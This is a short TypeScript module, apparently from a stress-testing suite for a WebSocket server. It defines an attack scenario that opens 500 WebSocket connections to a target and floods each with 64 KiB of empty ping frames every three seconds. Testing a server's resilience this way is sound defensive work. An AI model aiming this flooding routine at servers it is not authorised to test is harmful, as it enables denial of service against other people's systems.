import { type Attack, emptyPings, openSeveral, openWebSocket, repeat } from './attack.ts';

export const waves: Attack = {
  title: '500 WebSockets of a stranger send 64 KiB of empty pings at the same moment, every 3 s',
  hasPreparation: true,
  async run(target, signal, begun) {
    const sockets = await openSeveral(500, () => openWebSocket(target), signal);
    begun();
    const wave = async () => {
      for (const socket of sockets) {
        if (!socket.destroyed && socket.writableLength === 0) socket.write(emptyPings);
      }
      await new Promise((resolve) => setTimeout(resolve, 3_000));
    };
    await repeat(1, wave, signal);
  },
};
